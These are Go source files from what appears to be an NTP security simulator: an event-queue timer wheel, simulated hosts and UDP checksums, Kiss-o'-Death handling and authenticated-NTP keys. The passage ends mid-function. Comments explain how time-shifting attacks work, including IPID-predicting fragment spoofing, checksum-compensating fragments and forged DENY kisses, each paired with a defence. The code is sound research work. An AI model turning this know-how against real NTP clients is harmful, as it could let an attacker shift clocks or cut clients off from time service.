//     stay O(1) no matter how far the next timer is — the property
//     shiftsim's decade-horizon round compression depends on — while
//     inserts stay O(log n) even under far-future-heavy load (a sorted
//     slice degraded to O(n) memmoves there; BenchmarkEventQueue's
//     standing population is exactly that workload).
//
// Cancellation is a lazy tombstone: Timer.Cancel flips the event's
// cancelled flag and the queue reclaims the slot when the sweep reaches
// it — never by re-heapifying. Every dead event is visited exactly once.
//
// Event ordering is the same (when, seq) total order the heap used, so
// dispatch is bit-identical; Config.LegacyHeap keeps the old binary heap
// wired up for the A/B equivalence tests in queue_test.go.

// Calendar geometry. l0Width is ~2.1 ms — a couple of propagation
// delays, so packet deliveries spread across a handful of sorted
// buckets. One L1 bucket spans the whole L0 wheel (~2.15 s), and the L1
// wheel spans ~2.45 h, which holds the hourly pool-generation timers of
// a fleet shard; only multi-hour timers reach the sorted outer tier.
const (
	l0Shift = 21 // log2 of the L0 bucket width in ns (~2.1 ms)
	l0Bits  = 10
	l0Size  = 1 << l0Bits // L0 wheel: 1024 buckets ≈ 2.15 s
	l0Mask  = l0Size - 1
	l1Shift = l0Shift + l0Bits // log2 of the L1 bucket width (~2.15 s)
	l1Bits  = 12
	l1Size  = 1 << l1Bits // L1 wheel: 4096 buckets ≈ 2.45 h
	l1Mask  = l1Size - 1
)

// qitem is a queue entry: the (when, seq) sort key stored inline — so
// ordering never dereferences the slab — plus the event's slab handle.
type qitem struct {
	when int64
	seq  uint64
	h    int32
}

// before reports whether a precedes b in dispatch order.
func (a qitem) before(b qitem) bool {
	if a.when != b.when {
		return a.when < b.when
	}
	return a.seq < b.seq
}

// calendar is the two-level wheel. Positions (l1Cur, l0Pos) advance only
// during dispatch — peeks never move them — so virtual time can lag the
// wheel without events ever landing behind the cursor.
type calendar struct {
	l0     [l0Size][]qitem // sorted by (when, seq)
	l0head [l0Size]int32   // dispatch cursor; >0 only for the current bucket
	l0bits [l0Size / 64]uint64
	l1     [l1Size][]qitem // unsorted
	l1bits [l1Size / 64]uint64
	outer  qheap // far-future min-heap

	l1Cur   int64 // absolute L1 bucket whose window L0 currently covers
	l0Pos   int32 // current L0 slot within that window
	l0Count int   // entries resident in L0 (tombstones included)
	l1Count int
	swept   uint64 // tombstoned events lazily reclaimed (test hook)

	// Cached queue minimum. The event pump peeks (to bound the run
	// window) and then pops every event; the cache makes the second scan
	// O(1). A push of an earlier entry updates it, popping consumes it,
	// and cancelling the cached event invalidates it.
	peekItem  qitem
	peekValid bool

	// spares holds the backing arrays of emptied buckets. A bucket that
	// drains donates its storage here; the next bucket that goes
	// non-empty takes one back. Total storage tracks the maximum number
	// of concurrently non-empty buckets, so steady-state scheduling
	// allocates nothing even as the wheels rotate through fresh slots.
	spares [][]qitem
}

// takeSpare returns a recycled empty bucket array, or a fresh one with
// enough capacity to skip the small-append growth ladder.
func (c *calendar) takeSpare() []qitem {
	if k := len(c.spares) - 1; k >= 0 {
		s := c.spares[k]
		c.spares[k] = nil
		c.spares = c.spares[:k]
		return s
	}
	return make([]qitem, 0, 8)
}

// giveSpare donates a drained bucket's storage to the spare pool.
func (c *calendar) giveSpare(s []qitem) {
	if cap(s) > 0 {
		c.spares = append(c.spares, s[:0])
	}
}

// nextSet returns the index of the first set bit at or after from, or -1.
func nextSet(bitmap []uint64, from int) int {
	w := from >> 6
	if w >= len(bitmap) {
		return -1
	}
	word := bitmap[w] &^ (1<<(uint(from)&63) - 1)
	for {
		if word != 0 {
			return w<<6 | bits.TrailingZeros64(word)
		}
		w++
		if w >= len(bitmap) {
			return -1
		}
		word = bitmap[w]
	}
}

// place routes an entry to its tier. The caller guarantees
// it.when>>l1Shift >= l1Cur (virtual time never runs ahead of the wheel).
func (n *Network) place(it qitem) {
	c := &n.cal
	b := it.when >> l1Shift
	switch {
	case b == c.l1Cur:
		n.l0insert(it)
	case b <= c.l1Cur+l1Size:
		slot := b & l1Mask
		s := c.l1[slot]
		if s == nil {
			s = c.takeSpare()
		}
		c.l1[slot] = append(s, it)
		c.l1bits[slot>>6] |= 1 << (uint(slot) & 63)
		c.l1Count++
	default:
		c.outer.push(it)
	}
}

// l0insert adds an entry to its sorted dispatch bucket. The common case
// — the entry sorts after everything already there — is a plain append.
func (n *Network) l0insert(it qitem) {
	c := &n.cal
	slot := (it.when >> l0Shift) & l0Mask
	s := c.l0[slot]
	if s == nil {
		s = c.takeSpare()
	}
	if k := len(s); k == 0 || s[k-1].before(it) {
		c.l0[slot] = append(s, it)
	} else {
		lo, hi := int(c.l0head[slot]), k
		for lo < hi {
			mid := int(uint(lo+hi) >> 1)
			if s[mid].before(it) {
				lo = mid + 1
			} else {
				hi = mid
			}
		}
		s = append(s, qitem{})
		copy(s[lo+1:], s[lo:])
		s[lo] = it
		c.l0[slot] = s
	}
	c.l0bits[slot>>6] |= 1 << (uint(slot) & 63)
	c.l0Count++
}

// sweepL0 advances a bucket's cursor past tombstones, reclaiming their
// slots. It reports whether a live entry remains at the cursor; an
// exhausted bucket is reset for reuse.
func (n *Network) sweepL0(slot int64) bool {
	c := &n.cal
	s := c.l0[slot]
	head := int(c.l0head[slot])
	for head < len(s) {
		if ev := &n.events[s[head].h]; !ev.cancelled {
			break
		}
		n.recycleEvent(s[head].h)
		head++
		c.l0Count--
		c.swept++
	}
	if head == len(s) {
		c.giveSpare(s)
		c.l0[slot] = nil
		c.l0head[slot] = 0
		c.l0bits[slot>>6] &^= 1 << (uint(slot) & 63)
		return false
	}
	c.l0head[slot] = int32(head)
	return true
}

// ensureL0 migrates events into the dispatch wheel until it holds the
// global minimum (or reports an empty queue). Only dispatch calls it:
// it advances l1Cur, which is safe exactly because the next Step jumps
// virtual time to the migrated bucket's first event.
func (n *Network) ensureL0() bool {
	c := &n.cal
	for c.l0Count == 0 {
		switch {
		case c.l1Count > 0:
			// Migrate the next non-empty L1 bucket. Ring order from
			// l1Cur+1 is absolute-time order: the window (l1Cur,
			// l1Cur+l1Size] maps each bucket to a distinct slot.
			s0 := int((c.l1Cur + 1) & l1Mask)
			slot := nextSet(c.l1bits[:], s0)
			if slot < 0 {
				slot = nextSet(c.l1bits[:], 0)
			}
			c.l1Cur += (int64(slot)-int64(s0))&l1Mask + 1
			c.l0Pos = 0
			items := c.l1[slot]
			c.l1Count -= len(items)
			c.l1[slot] = nil // detach before inserting: l0insert must not grab this array as a spare mid-iteration
			c.l1bits[slot>>6] &^= 1 << (uint(slot) & 63)
			for _, it := range items {
				if n.events[it.h].cancelled {
					n.recycleEvent(it.h)
					c.swept++
					continue
				}
				n.l0insert(it)
			}
			c.giveSpare(items)
		case len(c.outer.items) > 0:
			// The wheel is empty: jump it to the overflow root. This is
			// the O(1) idle hop FastForward relies on.
			c.l1Cur = c.outer.items[0].when >> l1Shift
			c.l0Pos = 0
		default:
			return false
		}
		n.drainOuter()
	}
	return true
}

// drainOuter moves overflow entries that now fit the wheels. Called
// whenever l1Cur advances; eligibility is a root check.
func (n *Network) drainOuter() {
	c := &n.cal
	for len(c.outer.items) > 0 {
		it := c.outer.items[0]
		if it.when>>l1Shift > c.l1Cur+l1Size {
			break
		}
		c.outer.pop()
		n.place(it)
	}
}

// peekMin returns the earliest live entry without advancing the wheel —
// the non-mutating half of dispatch, shared by NextEventAt and the
// runUntil window check. Tombstones encountered on the way are swept,
// and the answer is cached until it is popped or cancelled.
func (n *Network) peekMin() (qitem, bool) {
	c := &n.cal
	if c.peekValid {
		return c.peekItem, true
	}
	it, ok := n.scanMin()
	if ok {
		c.peekItem, c.peekValid = it, true
	}
	return it, ok
}

// scanMin finds the earliest live entry by scanning the tiers.
func (n *Network) scanMin() (qitem, bool) {
	c := &n.cal
	// L0 first: everything in it precedes all of L1 and outer.
	for pos := int(c.l0Pos); c.l0Count > 0; {
		slot := nextSet(c.l0bits[:], pos)
		if slot < 0 {
			break // only tombstone-free empty buckets ahead; counts say none live
		}
		if n.sweepL0(int64(slot)) {
			s := c.l0[slot]
			return s[c.l0head[slot]], true
		}
		pos = slot + 1
	}
	if c.l1Count > 0 {
		// The first non-empty L1 bucket in ring order holds the minimum;
		// its entries are unsorted, so scan them (once per migration
		// window — the bucket is migrated before its first dispatch).
		s0 := int((c.l1Cur + 1) & l1Mask)
		for {
			slot := nextSet(c.l1bits[:], s0)
			if slot < 0 {
				slot = nextSet(c.l1bits[:], 0)
			}
			if slot < 0 {
				break
			}
			items := c.l1[slot]
			kept := items[:0]
			var min qitem
			ok := false
			for _, it := range items {
				if n.events[it.h].cancelled {
					n.recycleEvent(it.h)
					c.l1Count--
					c.swept++
					continue
				}
				kept = append(kept, it)
				if !ok || it.before(min) {
					min, ok = it, true
				}
			}
			if ok {
				c.l1[slot] = kept
				return min, true
			}
			c.giveSpare(items)
			c.l1[slot] = nil
			c.l1bits[slot>>6] &^= 1 << (uint(slot) & 63)
			if c.l1Count == 0 {
				break
			}
			s0 = slot + 1
		}
	}
	for len(c.outer.items) > 0 {
		it := c.outer.items[0]
		if !n.events[it.h].cancelled {
			return it, true
		}
		c.outer.pop()
		n.recycleEvent(it.h)
		c.swept++
	}
	return qitem{}, false
}

// popMin removes and returns the earliest live event's handle, or -1.
func (n *Network) popMin() int32 {
	c := &n.cal
	if c.peekValid {
		// The event pump peeked this minimum moments ago. If it already
		// sits at the head of its dispatch bucket (the sweep in peekMin
		// put it there), pop it without rescanning.
		c.peekValid = false
		it := c.peekItem
		if it.when>>l1Shift == c.l1Cur {
			slot := (it.when >> l0Shift) & l0Mask
			s := c.l0[slot]
			if head := c.l0head[slot]; int(head) < len(s) && s[head] == it {
				c.l0Pos = int32(slot)
				c.l0head[slot] = head + 1
				c.l0Count--
				if int(head)+1 == len(s) {
					c.giveSpare(s)
					c.l0[slot] = nil
					c.l0head[slot] = 0
					c.l0bits[slot>>6] &^= 1 << (uint(slot) & 63)
				} else if nxt := s[head+1]; !n.events[nxt.h].cancelled {
					// The bucket successor is the new global minimum: this
					// is the lowest non-empty L0 slot, and all of L0
					// precedes L1 and outer. Re-arming the cache here makes
					// the peek→pop event pump scan-free in steady state.
					c.peekItem, c.peekValid = nxt, true
				}
				return it.h
			}
		}
	}
	for n.ensureL0() {
		slot := nextSet(c.l0bits[:], int(c.l0Pos))
		if slot < 0 {
			// All remaining L0 entries were tombstones swept elsewhere;
			// counts have caught up, go migrate more.
			continue
		}
		c.l0Pos = int32(slot)
		if !n.sweepL0(int64(slot)) {
			continue
		}
		s := c.l0[slot]
		head := c.l0head[slot]
		h := s[head].h
		c.l0head[slot] = head + 1
		c.l0Count--
		if int(head)+1 == len(s) {
			c.giveSpare(s)
			c.l0[slot] = nil
			c.l0head[slot] = 0
			c.l0bits[slot>>6] &^= 1 << (uint(slot) & 63)
		}
		return h
	}
	return -1
}

// qheap is a binary min-heap of (when, seq) keys. It serves two roles:
// the calendar's far-future outer tier, and — via Config.LegacyHeap —
// the complete pre-calendar scheduler (with the old eager
// prune-cancelled-from-the-top behaviour) that the A/B equivalence
// tests drive over identical op sequences.
type qheap struct {
	items []qitem
}

func (q *qheap) push(it qitem) {
	q.items = append(q.items, it)
	i := len(q.items) - 1
	for i > 0 {
		parent := (i - 1) / 2
		if !q.items[i].before(q.items[parent]) {
			break
		}
		q.items[i], q.items[parent] = q.items[parent], q.items[i]
		i = parent
	}
}

func (q *qheap) pop() qitem {
	top := q.items[0]
	last := len(q.items) - 1
	q.items[0] = q.items[last]
	q.items = q.items[:last]
	i := 0
	for {
		l, r := 2*i+1, 2*i+2
		small := i
		if l < last && q.items[l].before(q.items[small]) {
			small = l
		}
		if r < last && q.items[r].before(q.items[small]) {
			small = r
		}
		if small == i {
			break
		}
		q.items[i], q.items[small] = q.items[small], q.items[i]
		i = small
	}
	return top
}

// heapPeek discards cancelled tops (the old pruneCancelled behaviour)
// and returns the earliest live entry.
func (n *Network) heapPeek() (qitem, bool) {
	q := n.heap
	for len(q.items) > 0 {
		top := q.items[0]
		if !n.events[top.h].cancelled {
			return top, true
		}
		q.pop()
		n.recycleEvent(top.h)
	}
	return qitem{}, false
}

func (n *Network) heapPop() int32 {
	if top, ok := n.heapPeek(); ok {
		n.heap.pop()
		return top.h
	}
	return -1
}

// pushEvent enqueues slab slot h at absolute virtual time whenNs.
func (n *Network) pushEvent(h int32, whenNs int64) {
	n.seq++
	ev := &n.events[h]
	ev.when = whenNs
	ev.seq = n.seq
	it := qitem{when: whenNs, seq: n.seq, h: h}
	if n.heap != nil {
		n.heap.push(it)
		return
	}
	if c := &n.cal; c.peekValid && it.before(c.peekItem) {
		c.peekItem = it // the push is the new minimum; the cache stays valid
	}
	n.place(it)
}

// allocEvent pops a free slab slot or grows the slab.
func (n *Network) allocEvent() int32 {
	if k := len(n.free) - 1; k >= 0 {
		h := n.free[k]
		n.free = n.free[:k]
		return h
	}
	n.events = append(n.events, event{})
	return int32(len(n.events) - 1)
}

// recycleEvent returns a slot to the free-list, releasing any pooled
// payload buffer it carried and bumping the generation so outstanding
// Timer handles go inert.
func (n *Network) recycleEvent(h int32) {
	ev := &n.events[h]
	if ev.buf != nil {
		n.releaseBuf(ev.buf)
		ev.buf = nil
	}
	ev.fn = nil
	ev.pkt = Packet{}
	ev.kind = evFn
	ev.cancelled = false
	ev.gen++
	n.free = append(n.free, h)
}
