package simnet

import (
	"fmt"

	"chronosntp/internal/ipfrag"
)

// Host is a network endpoint: an IP address, a set of bound UDP ports, and
// a fragment-reassembly cache.
type Host struct {
	net        *Network
	ip         IP
	ports      map[uint16]Handler
	reasm      *ipfrag.Reassembler
	nextIPID   uint16
	randomIPID bool
	nextEph    uint16
}

// IP returns the host's address.
func (h *Host) IP() IP { return h.ip }

// Net returns the network the host belongs to.
func (h *Host) Net() *Network { return h.net }

// Listen binds handler to port.
func (h *Host) Listen(port uint16, handler Handler) error {
	if _, ok := h.ports[port]; ok {
		return fmt.Errorf("%w: %s:%d", ErrPortInUse, h.ip, port)
	}
	h.ports[port] = handler
	return nil
}

// Close unbinds port, reporting whether it was bound.
func (h *Host) Close(port uint16) bool {
	_, ok := h.ports[port]
	delete(h.ports, port)
	return ok
}

// EphemeralPort returns an unused port from the ephemeral range, cycling
// sequentially (the predictable default; services that randomise source
// ports — like hardened DNS resolvers — pick their own).
func (h *Host) EphemeralPort() uint16 {
	for i := 0; i < 1<<14; i++ {
		p := h.nextEph
		h.nextEph++
		if h.nextEph == 0 {
			h.nextEph = 49152
		}
		if _, used := h.ports[p]; !used && p >= 1024 {
			return p
		}
	}
	return 0
}

// RandomPort returns an unused high port chosen with the network RNG
// (source-port randomisation, the standard DNS cache-poisoning defence).
func (h *Host) RandomPort() uint16 {
	for {
		p := uint16(1024 + h.net.rng.Intn(1<<16-1024))
		if _, used := h.ports[p]; !used {
			return p
		}
	}
}

// allocIPID returns the next IP Identification value. By default the
// counter is global per host and increments by one — the classic,
// predictable behaviour that IPID-forgery attacks rely on. With
// SetRandomIPID the host draws a fresh random ID per datagram instead
// (the hardened-stack ablation that defeats fragment pre-planting).
func (h *Host) allocIPID() uint16 {
	if h.randomIPID {
		return uint16(h.net.rng.Intn(1 << 16))
	}
	id := h.nextIPID
	h.nextIPID++
	return id
}

// PeekIPID returns the IPID the host will use for its next packet (only
// meaningful for sequential mode). Test and analysis code uses it;
// attackers must infer it by probing.
func (h *Host) PeekIPID() uint16 { return h.nextIPID }

// SetRandomIPID switches the host between the predictable sequential IPID
// counter (false, the default and the attack precondition) and per-packet
// random IPIDs (true).
func (h *Host) SetRandomIPID(random bool) { h.randomIPID = random }

// RandomizeIPID re-seeds the host's sequential IPID counter from the
// network RNG.
func (h *Host) RandomizeIPID() { h.nextIPID = uint16(h.net.rng.Intn(1 << 16)) }

// SetReassemblyPolicy replaces the host's fragment cache with one using the
// given configuration (used to model OS differences and resolver hardening).
func (h *Host) SetReassemblyPolicy(cfg ipfrag.Config) {
	h.reasm = ipfrag.NewReassembler(cfg)
}

// Reassembler exposes the host's fragment cache. The defragmentation
// attack plants spoofed fragments here *via the network* (Inject); direct
// access is for tests and measurements.
func (h *Host) Reassembler() *ipfrag.Reassembler { return h.reasm }

// SendUDP transmits from a specific local port on this host.
func (h *Host) SendUDP(fromPort uint16, to Addr, payload []byte) error {
	return h.net.SendUDP(Addr{IP: h.ip, Port: fromPort}, to, payload)
}
