package simnet

import (
	"fmt"
	"net/netip"
	"strconv"
)

// IP is an IPv4 address.
type IP [4]byte

// IPv4 builds an IP from four octets.
func IPv4(a, b, c, d byte) IP { return IP{a, b, c, d} }

// String renders the address in dotted-quad form.
func (ip IP) String() string {
	return strconv.Itoa(int(ip[0])) + "." + strconv.Itoa(int(ip[1])) + "." +
		strconv.Itoa(int(ip[2])) + "." + strconv.Itoa(int(ip[3]))
}

// IsZero reports whether the address is the zero value 0.0.0.0.
func (ip IP) IsZero() bool { return ip == IP{} }

// InPrefix reports whether ip falls inside the prefix defined by base and
// prefix length bits (0..32). Used by BGP-hijack taps to match victim
// prefixes.
func (ip IP) InPrefix(base IP, bits int) bool {
	if bits <= 0 {
		return true
	}
	if bits > 32 {
		bits = 32
	}
	u := uint32(ip[0])<<24 | uint32(ip[1])<<16 | uint32(ip[2])<<8 | uint32(ip[3])
	b := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])
	mask := ^uint32(0) << (32 - uint(bits))
	return u&mask == b&mask
}

// Addr is a UDP endpoint.
type Addr struct {
	IP   IP
	Port uint16
}

// String renders the endpoint as ip:port.
func (a Addr) String() string { return fmt.Sprintf("%s:%d", a.IP, a.Port) }

// AddrPort converts the simulated endpoint into a net/netip endpoint.
// This is the bridge the real-socket layer (internal/wirenet) uses: the
// same four address octets name a host on the simulated internet and a
// loopback/interface address on the real one, so topology descriptions
// are transport-independent.
func (a Addr) AddrPort() netip.AddrPort {
	return netip.AddrPortFrom(netip.AddrFrom4(a.IP), a.Port)
}

// AddrFromAddrPort maps a real IPv4 (or IPv4-mapped IPv6) endpoint into
// simnet address space — the inverse of Addr.AddrPort, allocation-free.
// Non-IPv4 addresses map to the zero IP with the port preserved.
func AddrFromAddrPort(ap netip.AddrPort) Addr {
	ip := ap.Addr().Unmap()
	if !ip.Is4() {
		return Addr{Port: ap.Port()}
	}
	return Addr{IP: IP(ip.As4()), Port: ap.Port()}
}
