package simnet

import (
	"encoding/binary"
	"errors"
)

// ProtoUDP is the IPv4 protocol number for UDP.
const ProtoUDP = 17

// UDPHeaderSize is the size of a UDP header.
const UDPHeaderSize = 8

// ErrBadUDP is returned when a UDP datagram fails structural or checksum
// validation.
var ErrBadUDP = errors.New("simnet: malformed udp datagram")

// EncodeUDP builds a UDP datagram (header + payload) with a valid RFC 768
// checksum over the IPv4 pseudo-header. The checksum matters here: the
// defragmentation attack must craft spoofed fragments that keep the overall
// datagram checksum valid, so the simulation computes and verifies real
// checksums rather than assuming integrity.
func EncodeUDP(src, dst Addr, payload []byte) []byte {
	b := make([]byte, UDPHeaderSize+len(payload))
	putUDP(b, src, dst, payload)
	return b
}

// putUDP encodes the datagram into b, which must be exactly
// UDPHeaderSize+len(payload) bytes. It is the allocation-free core of
// EncodeUDP, used directly by the network's pooled-buffer send path.
func putUDP(b []byte, src, dst Addr, payload []byte) {
	binary.BigEndian.PutUint16(b[0:2], src.Port)
	binary.BigEndian.PutUint16(b[2:4], dst.Port)
	binary.BigEndian.PutUint16(b[4:6], uint16(len(b)))
	b[6], b[7] = 0, 0 // checksum field zero while summing
	copy(b[UDPHeaderSize:], payload)
	sum := udpChecksum(src.IP, dst.IP, b)
	binary.BigEndian.PutUint16(b[6:8], sum)
}

// DecodeUDP parses and validates a UDP datagram delivered from srcIP to
// dstIP. It returns the source/destination ports and the payload.
func DecodeUDP(srcIP, dstIP IP, datagram []byte) (srcPort, dstPort uint16, payload []byte, err error) {
	if len(datagram) < UDPHeaderSize {
		return 0, 0, nil, ErrBadUDP
	}
	length := int(binary.BigEndian.Uint16(datagram[4:6]))
	if length < UDPHeaderSize || length > len(datagram) {
		return 0, 0, nil, ErrBadUDP
	}
	datagram = datagram[:length]
	if binary.BigEndian.Uint16(datagram[6:8]) != 0 {
		// Verify in place: the ones-complement sum of pseudo-header plus
		// datagram *including* the transmitted checksum field folds to
		// 0xFFFF exactly when the checksum is valid. This is equivalent to
		// recomputing over a zeroed-field copy and comparing — including
		// the RFC 768 edge case where a computed zero is sent as all-ones —
		// but needs no allocation.
		var sum uint32
		sum += uint32(srcIP[0])<<8 | uint32(srcIP[1])
		sum += uint32(srcIP[2])<<8 | uint32(srcIP[3])
		sum += uint32(dstIP[0])<<8 | uint32(dstIP[1])
		sum += uint32(dstIP[2])<<8 | uint32(dstIP[3])
		sum += ProtoUDP
		sum += uint32(len(datagram))
		sum += uint32(OnesComplementSum16(datagram))
		for sum>>16 != 0 {
			sum = sum&0xFFFF + sum>>16
		}
		if uint16(sum) != 0xFFFF {
			return 0, 0, nil, ErrBadUDP
		}
	}
	srcPort = binary.BigEndian.Uint16(datagram[0:2])
	dstPort = binary.BigEndian.Uint16(datagram[2:4])
	return srcPort, dstPort, datagram[UDPHeaderSize:], nil
}

// udpChecksum computes the RFC 768 checksum of a UDP datagram (whose
// checksum field must be zero) with the IPv4 pseudo-header for src/dst.
func udpChecksum(src, dst IP, datagram []byte) uint16 {
	var sum uint32
	add16 := func(v uint16) { sum += uint32(v) }
	add16(uint16(src[0])<<8 | uint16(src[1]))
	add16(uint16(src[2])<<8 | uint16(src[3]))
	add16(uint16(dst[0])<<8 | uint16(dst[1]))
	add16(uint16(dst[2])<<8 | uint16(dst[3]))
	add16(ProtoUDP)
	add16(uint16(len(datagram)))
	for i := 0; i+1 < len(datagram); i += 2 {
		add16(uint16(datagram[i])<<8 | uint16(datagram[i+1]))
	}
	if len(datagram)%2 == 1 {
		add16(uint16(datagram[len(datagram)-1]) << 8)
	}
	for sum>>16 != 0 {
		sum = sum&0xFFFF + sum>>16
	}
	ck := ^uint16(sum)
	if ck == 0 {
		ck = 0xFFFF // RFC 768: transmitted as all-ones if computed as zero
	}
	return ck
}

// OnesComplementSum16 exposes the 16-bit ones-complement sum of a byte
// slice (padded with a zero byte if odd). Attack code uses it to build
// checksum-compensating spoofed fragments: two byte strings with equal
// ones-complement sums are interchangeable inside a UDP datagram without
// invalidating its checksum.
func OnesComplementSum16(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xFFFF + sum>>16
	}
	return uint16(sum)
}
