package ntpauth

import (
	"time"

	"chronosntp/internal/ntpwire"
)

// Kiss-o'-Death handling (RFC 5905 §7.4): a stratum-0 mode-4 packet
// whose ReferenceID carries a 4-character ASCII "kiss code". KoD is the
// protocol's access-control channel — and, unauthenticated, a denial
// weapon: a MitM forging DENY kisses can demobilize a client's honest
// associations one by one. The client state machine here implements the
// RFC's mandatory behavior (DENY/RSTR demobilize, RATE backs off) plus
// the RFC 8915 rule that NTS associations ignore kisses that fail
// authentication.

// KissCode is the 4-character ASCII code in a KoD packet's ReferenceID.
type KissCode uint32

// The kiss codes the stack implements.
const (
	KissRATE KissCode = 0x52415445 // "RATE": reduce your polling rate
	KissDENY KissCode = 0x44454e59 // "DENY": access denied, demobilize
	KissRSTR KissCode = 0x52535452 // "RSTR": access restricted, demobilize
)

// String returns the 4 ASCII characters.
func (k KissCode) String() string {
	return string([]byte{byte(k >> 24), byte(k >> 16), byte(k >> 8), byte(k)})
}

// ParseKissCode maps a 4-character string to its code, for flag/config
// parsing. Unknown strings return 0.
func ParseKissCode(s string) KissCode {
	switch s {
	case "RATE":
		return KissRATE
	case "DENY":
		return KissDENY
	case "RSTR":
		return KissRSTR
	default:
		return 0
	}
}

// IsKoD reports whether p is a Kiss-o'-Death packet: a mode-4 reply
// with stratum 0.
func IsKoD(p *ntpwire.Packet) bool {
	return p.Mode == ntpwire.ModeServer && p.Stratum == 0
}

// Code extracts the kiss code from a KoD packet.
func Code(p *ntpwire.Packet) KissCode { return KissCode(p.ReferenceID) }

// Demobilize reports whether code requires dropping the association
// (DENY and RSTR do; RATE asks only for back-off).
func Demobilize(code KissCode) bool {
	return code == KissDENY || code == KissRSTR
}

// FillKoD writes a Kiss-o'-Death reply to req into p: stratum 0, the
// kiss code in ReferenceID, and the client's transmit timestamp echoed
// in the origin field so the reply passes the origin check like any
// genuine reply would.
func FillKoD(p *ntpwire.Packet, code KissCode, req *ntpwire.Packet, now time.Time) {
	ts := ntpwire.TimestampFromTime(now)
	*p = ntpwire.Packet{
		Leap:         ntpwire.LeapUnsync,
		Version:      ntpwire.Version,
		Mode:         ntpwire.ModeServer,
		Stratum:      0,
		Poll:         req.Poll,
		ReferenceID:  uint32(code),
		OriginTime:   req.TransmitTime,
		ReceiveTime:  ts,
		TransmitTime: ts,
	}
}

// AssocState is one client association's KoD state machine.
type AssocState struct {
	Dead        bool // DENY/RSTR received: association demobilized
	RateStrikes int  // RATE kisses received: back-off pressure
}

// OnKoD folds one kiss into the state machine. authenticated reports
// whether the KoD packet itself passed the association's authentication
// policy; per RFC 8915 §5.7 an authenticated association MUST ignore
// unauthenticated kisses (this is exactly what disarms the forged-KoD
// denial move), while an unauthenticated association believes any kiss.
// requireAuth marks the association as authenticated.
func (s *AssocState) OnKoD(code KissCode, authenticated, requireAuth bool) {
	if requireAuth && !authenticated {
		return
	}
	switch {
	case Demobilize(code):
		s.Dead = true
	case code == KissRATE:
		s.RateStrikes++
	}
}

// Usable reports whether the association may still be queried.
func (s *AssocState) Usable() bool { return !s.Dead }
