// Package ntpauth implements authenticated NTP for the simulation and
// real-wire stacks: the classic symmetric-key layer (MD5/SHA-1/SHA-256
// keyed digests appended to the packet as a key-ID + digest trailer,
// RFC 5905 appendix style), an NTS-style layer modeling RFC 8915's
// essentials (AEAD cookies minted and opened by the server, per-request
// unique identifiers, authenticator extension fields — with key
// establishment as a seeded exchange standing in for the NTS-KE TLS
// channel, and AES-GCM standing in for AES-SIV), and Kiss-o'-Death
// (RATE/DENY/RSTR) code handling for the client state machine.
//
// The package is pure policy + crypto over ntpwire's framing: servers
// hold a ServerAuth (key table, NTS master key, require/deny policy)
// and clients a ClientAuth (one key or one NTS session per
// association). The symmetric verify path is allocation-free in steady
// state — reusable digest state, constant-time comparison — because it
// sits on the wirenet read loop whose 0 allocs/op bar is gated in CI.
// The NTS path allocates per request (a fresh AEAD per opened cookie),
// which mirrors the real protocol's per-request cost and is not on the
// gated path.
//
// Quickstart — a keyed server and a require-auth client association:
//
//	key := ntpauth.Key{ID: 1, Algo: ntpauth.AlgoSHA256, Secret: secret}
//	tbl, _ := ntpauth.NewKeyTable(key)
//	srv := &ntpauth.ServerAuth{Keys: tbl}             // ntpserver.Config.Auth
//	cli := &ntpauth.ClientAuth{Key: key, Require: true} // chronos.AuthPolicy.ForServer
//
// (For NTS, mint a server with NewNTSServer and a session with
// Establish instead.) The full arms race — which attacker moves survive
// which client policies — is experiment E11:
//
//	go run ./cmd/attacksim -experiment E11
package ntpauth

import (
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"fmt"

	"chronosntp/internal/ntpwire"
)

// Algorithm identifies a symmetric-MAC digest algorithm.
type Algorithm uint8

// Supported digest algorithms. MD5 and SHA-1 are kept deliberately:
// the E11 arms race treats MD5 MACs as forgeable by the modeled
// attacker, matching their real-world status.
const (
	AlgoNone Algorithm = iota
	AlgoMD5
	AlgoSHA1
	AlgoSHA256
)

// MaxDigestSize is the largest digest any Algorithm produces.
const MaxDigestSize = sha256.Size

// DigestSize returns the digest length in bytes (0 for AlgoNone).
func (a Algorithm) DigestSize() int {
	switch a {
	case AlgoMD5:
		return md5.Size
	case AlgoSHA1:
		return sha1.Size
	case AlgoSHA256:
		return sha256.Size
	default:
		return 0
	}
}

// TrailerSize returns the on-wire MAC trailer size: key ID + digest.
func (a Algorithm) TrailerSize() int {
	if a == AlgoNone {
		return 0
	}
	return ntpwire.MACKeyIDSize + a.DigestSize()
}

// String implements fmt.Stringer.
func (a Algorithm) String() string {
	switch a {
	case AlgoNone:
		return "none"
	case AlgoMD5:
		return "md5"
	case AlgoSHA1:
		return "sha1"
	case AlgoSHA256:
		return "sha256"
	default:
		return "Algorithm(?)"
	}
}

// ParseAlgorithm is the inverse of String, for flag parsing.
func ParseAlgorithm(s string) (Algorithm, error) {
	switch s {
	case "none":
		return AlgoNone, nil
	case "md5":
		return AlgoMD5, nil
	case "sha1":
		return AlgoSHA1, nil
	case "sha256":
		return AlgoSHA256, nil
	default:
		return AlgoNone, fmt.Errorf("ntpauth: unknown algorithm %q", s)
	}
}

// Key is one symmetric key: a 32-bit identifier shared out of band, the
// digest algorithm, and the secret.
type Key struct {
	ID     uint32
	Algo   Algorithm
	Secret []byte
}

// KeyTable maps key IDs to keys, the server-side analogue of ntp.keys.
type KeyTable struct {
	byID map[uint32]Key
}

// NewKeyTable builds a table from keys. Invalid keys (see Add) are
// reported by error.
func NewKeyTable(keys ...Key) (*KeyTable, error) {
	t := &KeyTable{byID: make(map[uint32]Key, len(keys))}
	for _, k := range keys {
		if err := t.Add(k); err != nil {
			return nil, err
		}
	}
	return t, nil
}

// Add inserts k. It rejects keys with no algorithm or secret, duplicate
// IDs, and IDs whose low 16 bits equal the key's own trailer length —
// such a trailer's key-ID bytes would parse as a valid extension-field
// header spanning exactly the trailer, making ntpwire.SplitAuth
// ambiguous (the model's analogue of RFC 7822's length restrictions).
func (t *KeyTable) Add(k Key) error {
	if k.Algo == AlgoNone || k.Algo.DigestSize() == 0 {
		return fmt.Errorf("ntpauth: key %d has no algorithm", k.ID)
	}
	if len(k.Secret) == 0 {
